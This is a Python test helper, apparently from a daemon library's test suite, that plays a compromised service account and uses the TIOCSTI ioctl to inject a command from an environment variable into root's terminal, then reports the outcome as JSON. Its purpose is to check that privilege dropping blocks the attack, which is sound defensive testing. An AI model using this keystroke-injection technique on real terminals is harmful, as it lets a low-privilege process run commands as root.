"""What a compromised service account tries with root's terminal: inject keystrokes.

As a CLI target (``tests.programs.tty_injector:main``) it runs after the drop
and pushes ``$TTY_COMMAND`` into the terminal with ``TIOCSTI``, on fd 0 and on
``/dev/tty``; run as a script (``python tty_injector.py UID GID``) it does the
same from inside a ``pep3143.DaemonContext(uid, gid, detach_process=False)``.
Either way it writes what happened as JSON to ``$TTY_REPORT`` and returns.
"""

from __future__ import annotations

import fcntl
import json
import os
import sys
import termios


def _inject(fd: int, command: str) -> str:
    """Push ``command`` into the input of the terminal on ``fd``: "ok" or the errno's name."""
    try:
        for char in command:
            fcntl.ioctl(fd, termios.TIOCSTI, char.encode())
    except OSError as exc:
        return str(exc.errno and os.strerror(exc.errno))
    return "ok"


def attack() -> dict[str, object]:
    """Try fd 0, then ``/dev/tty``; the outcome of each."""
    command = os.environ["TTY_COMMAND"] + "\n"
    report: dict[str, object] = {"uid": os.getuid(), "stdin": _inject(0, command)}
    try:
        tty = os.open("/dev/tty", os.O_RDWR)
    except OSError as exc:
        report["dev_tty"] = f"open: {os.strerror(exc.errno or 0)}"
    else:
        report["dev_tty"] = _inject(tty, command)
        os.close(tty)
    return report


def _write_report(report: dict[str, object]) -> None:
    with open(os.environ["TTY_REPORT"], "w") as f:
        json.dump(report, f)


async def main() -> None:
    """The daemon's whole life: one attack, reported."""
    _write_report(attack())


if __name__ == "__main__":
    from aiodaemon.pep3143 import DaemonContext

    uid, gid = int(sys.argv[1]), int(sys.argv[2])
    with DaemonContext(uid=uid, gid=gid, detach_process=False, working_directory="/"):
        _write_report(attack())
